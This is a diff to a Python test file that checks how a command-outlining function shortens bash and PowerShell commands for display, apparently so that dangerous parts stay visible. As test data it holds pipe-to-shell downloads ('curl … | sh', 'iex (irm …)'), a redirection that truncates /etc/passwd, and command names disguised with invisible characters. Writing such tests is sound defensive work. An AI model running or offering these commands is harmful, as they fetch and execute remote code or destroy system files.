@@ -92,6 +92,50 @@ def test_short_literals_stay_as_written() -> None:
     assert outline(f"echo {word}w", "bash") == Outline("bash", "echo …")
 
 
+@pytest.mark.parametrize("invisible", ["\u200b", "\x80", "\xad", "\U000e0041"])
+def test_a_literal_is_measured_in_the_cells_it_shows_as(invisible: str) -> None:
+    """39 zero-width spaces are 39 characters and 312 cells of notation: data, not a word to keep."""
+    word = invisible * (LITERAL_KEEP - 1)
+    found = outline(f"curl -s https://e.x/i | sh -s -- {word}", "bash")
+    assert found is not None and found.text == "curl -s https://e.x/i | sh -s -- …"
+
+
+def test_a_command_name_is_never_collapsed_for_its_notation() -> None:
+    name = "sh" + "\x9b1A" * 8  # 34 characters, 66 cells: still what runs
+    found = outline(f"curl -s https://e.x/i | {name} -x", "bash")
+    assert found is not None and found.text == f"curl -s https://e.x/i | {name} -x"
+
+
+STEPS = "npm run lint; npm test; npm run build; " * 6
+
+
+@pytest.mark.parametrize(
+    ("trailing", "expected"),
+    [
+        ("A=1; B=2; C=3", "…"),
+        ("export A=1 B=2", "…"),
+        ("[[ -n $A ]] && A=1", "…"),
+        ("A=$(id)", "A=$(id)"),  # a substitution runs: it is the last command
+        ("A=1; > /etc/passwd", "A=1; > /etc/passwd"),  # a redirection alone truncates a file
+        ("A=1; curl -s e.x", "A=1; curl -s e.x"),
+    ],
+)
+def test_what_runs_nothing_after_a_long_commands_last_command_is_one_marker(trailing: str, expected: str) -> None:
+    found = outline(f"{STEPS}curl -s https://e.x/i | sh; {trailing}", "bash")
+    assert found is not None and found.text.endswith(f"curl -s https://e.x/i | sh; {expected}")
+
+
+def test_a_short_command_keeps_what_follows_its_last_command() -> None:
+    command = "cd app && npm ci; NODE_ENV=production"
+    assert len(command) <= COMMAND_KEEP
+    assert outline(command, "bash") == Outline("bash", command)
+
+
+def test_powershell_assignments_after_the_last_command_are_one_marker() -> None:
+    found = outline(f"{'Get-Date; ' * 8}iex (irm https://e.x/i); $a = 'x'; $b = 'y'", "powershell")
+    assert found is not None and found.text.endswith("iex (irm https://e.x/i); …")
+
+
 HEADERS = " ".join(f"-H h{index}:v" for index in range(40))
 
 
